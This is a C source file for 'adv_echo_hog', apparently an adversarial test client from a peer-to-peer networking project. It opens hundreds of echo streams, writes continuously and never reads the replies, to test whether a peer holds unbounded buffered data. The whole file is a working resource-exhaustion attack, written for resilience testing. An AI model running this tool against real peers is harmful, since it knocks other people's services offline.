/* adv_echo_hog ADDR [--conns K] [--streams N] [--seconds S]: the "echo streams never read"
 * attacker of issue 9. K identities (one connection each) dial ADDR (a /p2p multiaddr of a
 * peer serving /echo/1.0.0) and open N echo streams each; every stream writes as fast as the
 * victim grants window and never reads the echo: reading is paused on each stream, so this
 * side never grants the victim window back and the victim's echo output has nowhere to go.
 * Whatever the victim accepts, it must hold (or stop accepting).
 *
 * Prints a JSON line per second, {"event":"hog","t","sent","open","reset","conns"}, and
 * {"event":"hog_done",...} at the end: sent = bytes the victim accepted (written minus what
 * still waits in our streams), open = streams alive, reset = streams the victim reset or
 * refused, conns = connections still up. Exit 0, or 1 when no connection came up. Uses only
 * the public host API (it is a client like any other, just a rude one). */
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <uv.h>

#include "lp2p/err.h"
#include "lp2p/host.h"
#include "lp2p/identity.h"
#include "lp2p/log.h"

#define CHUNK        (64u << 10)
#define QUEUED       (128u << 10) /* keep this much waiting in each stream: always more to send */
#define OPEN_AT_ONCE 128 /* our own host refuses more than 256 opens the peer has not ACKed */
#define MAX_CON      64

typedef struct hog hog;
typedef struct hog_stream {
    hog *g;
    lp2p_stream *s;
    uint64_t written;
    int live;
} hog_stream;

typedef struct hog_conn {
    hog *g;
    lp2p_keypair *key;
    lp2p_host *h;
    lp2p_conn *c;
    int up;
} hog_conn;

struct hog {
    uv_loop_t loop;
    const char *addr;
    int nconns, nstreams;
    double seconds;
    hog_conn conns[MAX_CON];
    int next_open[MAX_CON]; /* the next stream index to open on each connection */
    hog_stream *streams;    /* nconns * nstreams */
    uint64_t closed_sent;   /* bytes accepted on streams that are gone */
    long resets, opened;
    int conns_up, conns_ever;
    uv_timer_t tick, end, refill;
    uv_signal_t sigterm;
    uint64_t t0;
    int stopping;
};

static uint8_t g_chunk[CHUNK];

static uint64_t stream_sent(const hog_stream *hs)
{
    return hs->written - (hs->live ? lp2p_stream_pending(hs->s) : 0);
}

static void fill(hog_stream *hs)
{
    while (hs->live && lp2p_stream_pending(hs->s) < QUEUED) {
        if (lp2p_stream_write(hs->s, g_chunk, CHUNK) < 0)
            return;
        hs->written += CHUNK;
    }
}

static void s_on_data(lp2p_stream *s, const uint8_t *p, size_t n, void *ud)
{
    /* the echo: ignored, and never granted back (reading is paused) */
}

static void s_on_writable(lp2p_stream *s, void *ud)
{
    fill(ud);
}

static void s_on_close(lp2p_stream *s, int err, void *ud)
{
    hog_stream *hs = ud;
    hs->g->closed_sent += hs->written - lp2p_stream_pending(s);
    hs->written = 0;
    hs->live = 0;
    hs->s = NULL;
    if (err)
        hs->g->resets++;
}

static const lp2p_stream_callbacks k_scb = {
    .on_data = s_on_data, .on_writable = s_on_writable, .on_close = s_on_close};

/* Opens up to OPEN_AT_ONCE more streams on hc's connection (the refill timer calls it again
 * until all are open: the victim ACKs each with its first frame). */
static void open_some(hog_conn *hc)
{
    hog *g = hc->g;
    int k = (int)(hc - g->conns);
    size_t base = (size_t)k * (size_t)g->nstreams;
    for (int n = 0; hc->up && g->next_open[k] < g->nstreams && n < OPEN_AT_ONCE; n++) {
        hog_stream *hs = &g->streams[base + (size_t)g->next_open[k]];
        hs->g = g;
        int rc = lp2p_conn_open_stream(hc->c, "/echo/1.0.0", &k_scb, hs, &hs->s);
        if (rc == LP2P_ERR_LIMIT)
            return; /* too many unACKed: next round */
        g->next_open[k]++;
        if (rc < 0) {
            g->resets++;
            continue;
        }
        g->opened++;
        hs->live = 1;
        lp2p_stream_pause_read(hs->s, 1);
        fill(hs);
    }
}

static void on_dial(lp2p_conn *c, int err, void *ud)
{
    hog_conn *hc = ud;
    hog *g = hc->g;
    if (err < 0 || g->stopping) {
        fprintf(stderr, "adv_echo_hog: dial failed: %s\n", lp2p_strerror(err));
        return;
    }
    hc->c = c;
    hc->up = 1;
    g->conns_up++;
    g->conns_ever++;
    open_some(hc);
}

static void on_disconnected(lp2p_conn *c, int reason, void *ud)
{
    hog_conn *hc = ud;
    if (hc->c == c) {
        hc->c = NULL;
        hc->up = 0;
        hc->g->conns_up--;
    }
}

static void report(hog *g, const char *event)
{
    uint64_t sent = g->closed_sent;
    long open = 0;
    for (size_t i = 0; i < (size_t)g->nconns * (size_t)g->nstreams; i++) {
        sent += stream_sent(&g->streams[i]);
        open += g->streams[i].live;
    }
    printf("{\"event\":\"%s\",\"t\":%.1f,\"sent\":%llu,\"open\":%ld,\"opened\":%ld,"
           "\"reset\":%ld,\"conns\":%d}\n",
           event, (double)(uv_hrtime() - g->t0) / 1e9, (unsigned long long)sent, open, g->opened,
           g->resets, g->conns_up);
    fflush(stdout);
}

/* Every 20 ms: open what is left, and top up every stream (on_writable comes only after a
 * stream's queue passed the host's high-water mark, and 1 MiB queued per stream would make
 * this attacker bigger than its victim). */
static void on_refill(uv_timer_t *t)
{
    hog *g = t->data;
    for (int i = 0; i < g->nconns; i++)
        open_some(&g->conns[i]);
    for (size_t i = 0; i < (size_t)g->nconns * (size_t)g->nstreams; i++)
        fill(&g->streams[i]);
}

static void on_tick(uv_timer_t *t)
{
    report(t->data, "hog");
}

static void stop(hog *g)
{
    if (g->stopping)
        return;
    g->stopping = 1;
    report(g, "hog_done");
    uv_timer_stop(&g->tick);
    uv_timer_stop(&g->refill);
    uv_close((uv_handle_t *)&g->tick, NULL);
    uv_close((uv_handle_t *)&g->refill, NULL);
    uv_close((uv_handle_t *)&g->end, NULL);
    uv_close((uv_handle_t *)&g->sigterm, NULL);
    for (int i = 0; i < g->nconns; i++)
        if (g->conns[i].h)
            lp2p_host_close(g->conns[i].h);
}

static void on_end(uv_timer_t *t)
{
    stop(t->data);
}

static void on_signal(uv_signal_t *s, int sig)
{
    stop(s->data);
}

int main(int argc, char **argv)
{
    static hog g;
    g.nconns = 1;
    g.nstreams = 500;
    g.seconds = 8;
    for (int i = 1; i < argc; i++) {
        if (!strcmp(argv[i], "--conns") && i + 1 < argc)
            g.nconns = atoi(argv[++i]);
        else if (!strcmp(argv[i], "--streams") && i + 1 < argc)
            g.nstreams = atoi(argv[++i]);
        else if (!strcmp(argv[i], "--seconds") && i + 1 < argc)
            g.seconds = atof(argv[++i]);
        else if (argv[i][0] != '-' && !g.addr)
            g.addr = argv[i];
        else {
            fprintf(stderr, "usage: adv_echo_hog ADDR [--conns K] [--streams N] [--seconds S]\n");
            return 2;
        }
    }
    if (!g.addr || g.nconns < 1 || g.nconns > MAX_CON || g.nstreams < 1) {
        fprintf(stderr, "usage: adv_echo_hog ADDR [--conns K<=%d] [--streams N] [--seconds S]\n",
                MAX_CON);
        return 2;
    }
    signal(SIGPIPE, SIG_IGN);
    lp2p_log_set_level(LP2P_ERROR);
    memset(g_chunk, 'h', sizeof(g_chunk));
    g.streams = calloc((size_t)g.nconns * (size_t)g.nstreams, sizeof(hog_stream));
    if (!g.streams)
        return 1;
    uv_loop_init(&g.loop);
    g.t0 = uv_hrtime();
    for (int i = 0; i < g.nconns; i++) {
        hog_conn *hc = &g.conns[i];
        hc->g = &g;
        if (lp2p_keypair_generate(&hc->key) < 0)
            return 1;
        lp2p_host_config cfg;
        lp2p_host_config_default(&cfg, &g.loop, hc->key);
        cfg.agent = "adv_echo_hog";
        cfg.holepunch = 0;
        cfg.cb.on_disconnected = on_disconnected;
        cfg.ud = hc;
        if (lp2p_host_new(&cfg, &hc->h) < 0 || lp2p_host_dial(hc->h, g.addr, on_dial, hc) < 0) {
            fprintf(stderr, "adv_echo_hog: cannot start connection %d\n", i);
            return 1;
        }
    }
    uv_timer_init(&g.loop, &g.tick);
    uv_timer_init(&g.loop, &g.end);
    uv_timer_init(&g.loop, &g.refill);
    g.refill.data = &g;
    uv_timer_start(&g.refill, on_refill, 20, 20);
    uv_signal_init(&g.loop, &g.sigterm);
    g.tick.data = g.end.data = g.sigterm.data = &g;
    uv_timer_start(&g.tick, on_tick, 1000, 1000);
    uv_timer_start(&g.end, on_end, (uint64_t)(g.seconds * 1000), 0);
    uv_signal_start(&g.sigterm, on_signal, SIGTERM);
    uv_run(&g.loop, UV_RUN_DEFAULT);
    uv_run(&g.loop, UV_RUN_DEFAULT);
    uv_loop_close(&g.loop);
    for (int i = 0; i < g.nconns; i++)
        lp2p_keypair_del(g.conns[i].key);
    free(g.streams);
    return g.conns_ever ? 0 : 1;
}
